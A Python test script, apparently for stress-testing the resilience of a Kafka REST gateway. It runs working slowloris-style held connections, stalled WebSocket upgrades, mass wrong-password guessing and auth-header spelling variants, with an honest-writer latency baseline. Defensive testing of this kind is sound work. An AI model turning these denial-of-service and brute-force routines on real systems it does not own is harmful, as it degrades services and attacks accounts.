"""Attacks a gateway as a stranger or as a user would; prints what happened as JSON. Standard library only.

    python3 attack.py HOST PORT bodies COUNT SECONDS     connections that send 65,000 of 65,536 bytes and stop; ends when all have ended
    python3 attack.py HOST PORT heads COUNT SECONDS      connections that send half a head and stop
    python3 attack.py HOST PORT upgrades COUNT SECONDS   WebSocket upgrades, by GET and POST, that never complete
    python3 attack.py HOST PORT guesses COUNT SECONDS    connections that send one wrong password after another
    python3 attack.py HOST PORT spellings TOPIC COUNT    streams of one user, each with another spelling of the login
    python3 attack.py HOST PORT raw                      what is on standard input, as it is; the answer as text
    python3 attack.py HOST PORT honest TOPIC SECONDS     an honest caller's writes, one after the other

Runs in a pod; the last three but one use the credentials in /etc/kafka-client. Every attack is bounded in count and
time and ends by itself.
"""

import base64
import http.client
import json
import random
import selectors
import socket
import sys
import time
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

CREDENTIALS = Path("/etc/kafka-client")
RECORD = json.dumps({"records": [{"key": "k", "value": {"n": 1}}]}).encode()
JSON = "application/vnd.kafka.json.v2+json"


def read(name: str) -> str:
    return (CREDENTIALS / name).read_text().strip()


def connect(host: str, port: int, seconds: float = 10) -> socket.socket:
    return socket.create_connection((host, port), seconds)


def hold(host: str, port: int, count: int, seconds: float, opening: bytes) -> dict:
    """Opens connections with these bytes and waits until all have ended, at most so long after the last was opened.

    Says how many are still open then, and what the others were answered.
    """
    until = time.monotonic() + seconds
    sockets, refused, answers = [], 0, Counter()
    while len(sockets) + refused < count and time.monotonic() < until:
        try:
            each = connect(host, port, 5)
            each.sendall(opening)
            sockets.append(each)
        except OSError:
            refused += 1
    until = time.monotonic() + seconds
    with selectors.DefaultSelector() as selector:
        for each in sockets:
            each.setblocking(False)
            selector.register(each, selectors.EVENT_READ)
        while selector.get_map() and time.monotonic() < until:
            for key, _ in selector.select(0.2):
                try:
                    answer = key.fileobj.recv(64)
                    answers[answer.split(b" ")[1].decode() if answer.startswith(b"HTTP/") else "closed"] += 1
                except OSError:
                    answers["reset"] += 1
                selector.unregister(key.fileobj)
        still = len(selector.get_map())
    for each in sockets:
        each.close()
    return {"opened": len(sockets), "refused": refused, "still_open": still, "answers": answers}


def guesses(host: str, port: int, count: int, seconds: float) -> dict:
    """Wrong passwords of many users, over `count` connections at a time."""
    until = time.monotonic() + seconds
    answers: Counter[str] = Counter()

    def guess(number: int) -> None:
        random.seed(number)
        while time.monotonic() < until:
            login = base64.b64encode(f"user-{random.randrange(500)}:{random.random()}".encode()).decode()
            try:
                connection = http.client.HTTPConnection(host, port, timeout=max(1, until - time.monotonic()))
                connection.request("GET", "/topics", headers={"authorization": f"Basic {login}"})
                answer = connection.getresponse()
                answer.read()
                answers[str(answer.status)] += 1
                connection.close()
                time.sleep(min(1.0, float(answer.headers.get("retry-after", 0) or 0)))
            except (OSError, http.client.HTTPException) as error:
                answers[type(error).__name__] += 1
                time.sleep(0.2)

    with ThreadPoolExecutor(count) as pool:
        list(pool.map(guess, range(count)))
    return dict(answers)


def spellings(host: str, port: int, topic: str, count: int) -> dict:
    """Streams that one user opens with as many spellings of one login."""
    login = base64.b64encode(f"{read('username')}:{read('password')}".encode()).decode()
    statuses: Counter[str] = Counter()
    sockets = []
    for number in range(count):
        word = "".join(letter.upper() if number >> place & 1 else letter for place, letter in enumerate("basic"))
        blanks = " " * (1 + number // 32)
        each = connect(host, port)
        request = (
            f"GET /topics/{topic}/stream HTTP/1.1\r\nhost: gateway\r\nauthorization: {word}{blanks}{login}\r\n\r\n"
        )
        each.sendall(request.encode())
        sockets.append(each)
    for each in sockets:
        each.settimeout(30)
        try:
            statuses[each.recv(64).split(b" ")[1].decode()] += 1
        except (OSError, IndexError):
            statuses["none"] += 1
    for each in sockets:
        each.close()
    return dict(statuses)


def raw(host: str, port: int) -> dict:
    """What comes back for these bytes until the server closes, or has said something and then nothing for five seconds."""
    with connect(host, port) as each:
        each.sendall(sys.stdin.buffer.read())
        each.settimeout(60)
        answer = b""
        closed = False
        try:
            while len(answer) < 1_000_000:
                piece = each.recv(65_536)
                if not piece:
                    closed = True
                    break
                answer += piece
                each.settimeout(5)
        except OSError:
            pass
    return {"answer": answer.decode("latin-1"), "closed": closed}


def honest(host: str, port: int, topic: str, seconds: float) -> dict:
    """Writes one record after the other; the latencies in milliseconds, and the statuses."""
    login = base64.b64encode(f"{read('username')}:{read('password')}".encode()).decode()
    headers = {"authorization": f"Basic {login}", "content-type": JSON}
    statuses: Counter[str] = Counter()
    took = []
    connection = http.client.HTTPConnection(host, port, timeout=30)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        begun = time.monotonic()
        try:
            connection.request("POST", f"/topics/{topic}", RECORD, headers)
            answer = connection.getresponse()
            answer.read()
            statuses[str(answer.status)] += 1
            took.append((time.monotonic() - begun) * 1000)
        except (OSError, http.client.HTTPException) as error:
            statuses[type(error).__name__] += 1
            connection.close()
        time.sleep(0.01)
    took.sort()
    at = lambda share: round(took[min(len(took) - 1, int(len(took) * share))], 1) if took else None  # noqa: E731
    return {"statuses": statuses, "median": at(0.5), "p99": at(0.99), "requests": len(took)}


def main() -> None:
    host, port, what, *rest = sys.argv[1:]
    at = (host, int(port))
    half = b"POST /topics/x HTTP/1.1\r\nhost: gateway\r\n"
    if what == "bodies":
        opening = half + b"content-type: application/json\r\ncontent-length: 65536\r\n\r\n" + b"x" * 65_000
        found = hold(*at, int(rest[0]), float(rest[1]), opening)
    elif what == "heads":
        found = hold(*at, int(rest[0]), float(rest[1]), half + b"x-filler: " + b"x" * 30_000)
    elif what == "upgrades":
        upgrade = b" /topics/x/stream HTTP/1.1\r\nhost: gateway\r\nconnection: upgrade\r\nupgrade: websocket\r\n"
        upgrade += (
            b"sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\ncontent-length: 5\r\n\r\nabc"
        )
        count, seconds = int(rest[0]) // 2, float(rest[1])
        with ThreadPoolExecutor(2) as pool:
            found = list(pool.map(lambda method: hold(*at, count, seconds, method + upgrade), (b"GET", b"POST")))
    elif what == "guesses":
        found = guesses(*at, int(rest[0]), float(rest[1]))
    elif what == "spellings":
        found = spellings(*at, rest[0], int(rest[1]))
    elif what == "honest":
        found = honest(*at, rest[0], float(rest[1]))
    else:
        found = raw(*at)
    print(json.dumps(found))


if __name__ == "__main__":
    main()
